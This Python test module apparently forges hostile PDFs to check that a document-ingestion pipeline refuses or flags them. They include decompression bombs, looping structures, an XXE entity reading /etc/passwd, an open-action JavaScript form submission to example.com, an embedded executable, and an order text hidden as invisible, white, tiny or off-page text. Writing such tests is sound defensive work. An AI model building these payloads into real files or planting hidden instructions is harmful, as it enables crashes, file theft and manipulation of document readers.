"""PDFs that loop, swell, hide, lie, or are something else as well."""

from functools import partial
from typing import Final

from knowledge.documents import Flag, RefusalReason
from tests.knowledge.forging import (
    Words,
    assembled,
    page_object,
    pdf,
    stream,
    text_pdf,
    zipped,
    zlib_bomb,
)
from tests.knowledge.harm import ORDER, TAKEN, Hostile, Taken, hiding, refused

_GOOD: Final = Words("Abrimos das 8h as 18h.", 700)
_BROKEN: Final = refused(RefusalReason.BROKEN)
_HEAVY: Final = refused(
    RefusalReason.BROKEN, RefusalReason.TOO_HEAVY, RefusalReason.NO_TEXT, RefusalReason.TOO_SLOW, RefusalReason.BOMB
)


def _good(*, catalog: str = "", trailer: str = "") -> bytes:
    return text_pdf([_GOOD], catalog=catalog, trailer=trailer)


def _hidden(words: Words) -> bytes:
    return text_pdf([_GOOD, words])


def _with_objects(more: dict[int, bytes], *, resources: str = "", content: bytes = _GOOD.drawn) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        10: page_object(11, resources=resources),
        11: stream(content),
    }
    return assembled(objects | more)


def _many_pages(count: int) -> bytes:
    """One page, shown again and again."""
    kids = "10 0 R " * count
    return _with_objects({2: f"<< /Type /Pages /Kids [{kids}] /Count {count} /MediaBox [0 0 595 842] >>".encode()})


def _looping_xref() -> bytes:
    good = _good()
    start = good.rindex(b"startxref\n") + len(b"startxref\n")
    place = good[start : good.index(b"\n", start)].decode()
    return good.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {place}".encode())


def _encrypted() -> bytes:
    garbage = "".join(f"{(at * 7 + 3) % 256:02x}" for at in range(32))
    seal = f"/Encrypt << /Filter /Standard /V 1 /R 2 /O <{garbage}> /U <{garbage}> /P -4 >> /ID [<00> <00>]"
    return _good(trailer=seal)


def _drawing_itself() -> bytes:
    form = stream(
        b"/X Do BT /F1 12 Tf (eco) Tj ET",
        "/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X 20 0 R >> >>",
    )
    return _with_objects({20: form}, resources="/XObject << /X 20 0 R >>", content=_GOOD.drawn + b"/X Do")


def _bomb(megabytes: int, filters: str = "/FlateDecode") -> bytes:
    return _with_objects({11: stream(zlib_bomb(megabytes), f"/Filter {filters}")})


def _scanned() -> bytes:
    picture = stream(
        b"\0" * 64, "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8"
    )
    return _with_objects({20: picture}, resources="/XObject << /I 20 0 R >>", content=b"q 595 0 0 842 0 0 cm /I Do Q")


def _scanned_with_lies() -> bytes:
    """What is read under the picture of a page may be anything."""
    picture = stream(
        b"\0" * 64, "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8"
    )
    content = b"q 595 0 0 842 0 0 cm /I Do Q " + Words(ORDER, 700, before="3 Tr").drawn
    return _with_objects({20: picture}, resources="/XObject << /I 20 0 R >>", content=content)


def _bad_picture(filter_name: str) -> bytes:
    size = "/Width 65000 /Height 65000 /ColorSpace /DeviceGray /BitsPerComponent 8"
    entries = f"/Type /XObject /Subtype /Image {size} /Filter /{filter_name}"
    picture = stream(b"\xff\x4f\xff\x51" + b"\x7f" * 4000, entries)
    return _with_objects({20: picture}, resources="/XObject << /I 20 0 R >>", content=_GOOD.drawn + b"/I Do")


def _attached() -> bytes:
    names = "/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>"
    return pdf([_GOOD.drawn], catalog=names, more={100: spec, 101: stream(b"MZ", "/Type /EmbeddedFile")})


def _scripted() -> bytes:
    names = "/Names << /JavaScript << /Names [(a) 100 0 R] >> >> /OpenAction 100 0 R"
    script = b"<< /S /JavaScript /JS (this.submitForm\\('https://example.com'\\);) >>"
    return pdf([_GOOD.drawn], catalog=names, more={100: script})


def _swollen_map() -> bytes:
    """A font that says what each of sixteen million codes means."""
    ranges = b"".join(b"<%06x> <%06x> <0041>\n" % (at << 12, (at << 12) + 4095) for at in range(4000))
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 100 beginbfrange\n" + ranges + b"endbfrange endcmap end"
    kind = b"/Subtype /Type0 /BaseFont /Helvetica /Encoding /Identity-H"
    font = b"<< /Type /Font " + kind + b" /ToUnicode 20 0 R /DescendantFonts [21 0 R] >>"
    system = b"/CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >>"
    below = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Helvetica " + system + b" >>"
    return _with_objects({3: font, 20: stream(cmap), 21: below})


_white: Final = Words(ORDER, 600, before="1 1 1 rg")

FILES: Final = (
    Hostile(name="pdf-of-its-mark-only", make=lambda: b"%PDF-1.7\n", ends=_BROKEN, is_quick=True),
    Hostile(name="pdf-cut-short", make=lambda: _good()[:300], ends=_BROKEN | refused(RefusalReason.NO_TEXT)),
    Hostile(name="pdf-of-noise", make=lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400, ends=_BROKEN),
    Hostile(name="pdf-locked", make=_encrypted, ends=refused(RefusalReason.ENCRYPTED), is_quick=True),
    Hostile(
        name="pdf-of-50000-pages",
        make=partial(_many_pages, 50_000),
        ends=refused(RefusalReason.TOO_MANY_PAGES),
        is_quick=True,
    ),
    Hostile(
        name="pdf-that-claims-a-billion-pages",
        make=lambda: _good().replace(b"/Count 1 ", b"/Count 999999999 "),
        ends=TAKEN | refused(RefusalReason.TOO_MANY_PAGES, RefusalReason.BROKEN),
    ),
    Hostile(name="pdf-bomb", make=partial(_bomb, 4096), ends=_HEAVY),
    Hostile(name="pdf-bomb-in-bomb", make=partial(_bomb, 900, "[/FlateDecode /FlateDecode /FlateDecode]"), ends=_HEAVY),
    Hostile(
        name="pdf-of-a-petabyte",
        make=lambda: _bomb(1).replace(b"/Length ", b"/Length 1125899906842624 % "),
        ends=_HEAVY | TAKEN,
    ),
    Hostile(name="pdf-xref-loop", make=_looping_xref, ends=TAKEN | _BROKEN),
    Hostile(
        name="pdf-tree-loop",
        make=lambda: _with_objects({2: b"<< /Type /Pages /Kids [2 0 R 10 0 R] /Count 2 /MediaBox [0 0 9 9] >>"}),
        ends=TAKEN | _BROKEN | refused(RefusalReason.NO_TEXT),
    ),
    Hostile(name="pdf-form-that-draws-itself", make=_drawing_itself, ends=TAKEN | _BROKEN),
    Hostile(
        name="pdf-of-deep-arrays",
        make=lambda: _with_objects({20: b"[" * 200_000}, resources="/XObject 20 0 R"),
        ends=TAKEN | _BROKEN | refused(RefusalReason.NO_TEXT),
    ),
    Hostile(
        name="pdf-with-a-huge-table",
        make=lambda: _good().replace(b"/Size ", b"/Size 2147483647 % "),
        ends=TAKEN | _BROKEN,
    ),
    Hostile(
        name="pdf-on-a-huge-page",
        make=lambda: _good().replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]"),
        ends=TAKEN | refused(RefusalReason.NO_TEXT),
    ),
    Hostile(
        name="pdf-of-a-million-letters-on-one-spot",
        make=lambda: text_pdf([Words("a", 700)] * 60_000),
        ends=TAKEN | refused(RefusalReason.TOO_SLOW, RefusalReason.TOO_HEAVY, RefusalReason.BROKEN),
    ),
    Hostile(name="pdf-with-a-swollen-font", make=_swollen_map, ends=_HEAVY | TAKEN),
    Hostile(name="pdf-with-bad-jpeg2000", make=partial(_bad_picture, "JPXDecode"), ends=TAKEN),
    Hostile(name="pdf-with-bad-jbig2", make=partial(_bad_picture, "JBIG2Decode"), ends=TAKEN),
    Hostile(name="pdf-of-a-picture", make=_scanned, ends=refused(RefusalReason.NO_TEXT)),
    Hostile(
        name="pdf-picture-over-other-words",
        make=_scanned_with_lies,
        ends=TAKEN,
        flags=frozenset({Flag.TEXT_UNDER_PICTURE}),
    ),
    hiding("pdf-invisible-text", partial(_hidden, Words(ORDER, 600, before="3 Tr")), is_quick=True),
    hiding("pdf-white-text", partial(_hidden, _white)),
    hiding("pdf-tiny-text", partial(_hidden, Words(ORDER, 600, size=1))),
    hiding("pdf-text-beside-the-page", partial(_hidden, Words(ORDER, 600, x=2000))),
    hiding(
        "pdf-clear-text",
        lambda: _with_objects(
            {20: b"<< /Type /ExtGState /ca 0 >>"},
            resources="/ExtGState << /G 20 0 R >>",
            content=_GOOD.drawn + Words(ORDER, 600, before="/G gs").drawn,
        ),
    ),
    Hostile(name="pdf-with-a-script", make=_scripted, ends=TAKEN, flags=frozenset({Flag.MACROS})),
    Hostile(name="pdf-with-a-file-in-it", make=_attached, ends=TAKEN, flags=frozenset({Flag.EMBEDDED_FILES})),
    Hostile(
        name="pdf-that-asks-for-an-entity",
        make=lambda: pdf(
            [_GOOD.drawn],
            catalog="/Metadata 100 0 R",
            more={100: stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "/Type /Metadata")},
        ),
        ends=TAKEN,
        unread="root:",
    ),
    Hostile(
        name="pdf-that-fetches",
        make=lambda: _good(catalog="/OpenAction << /S /URI /URI (https://example.com/) >> /AA << >>"),
        ends=frozenset({Taken.SOURCE}),
    ),
    Hostile(
        name="pdf-and-zip",
        make=lambda: _good() + zipped({"a.txt": "x"}),
        ends=refused(RefusalReason.SEVERAL_KINDS),
        is_quick=True,
    ),
    Hostile(
        name="page-and-pdf",
        make=lambda: b"<html><body>" + _good(),
        ends=refused(RefusalReason.SEVERAL_KINDS, RefusalReason.UNKNOWN_KIND),
    ),
    Hostile(name="pdf-called-txt.txt", make=_good, ends=TAKEN),
)
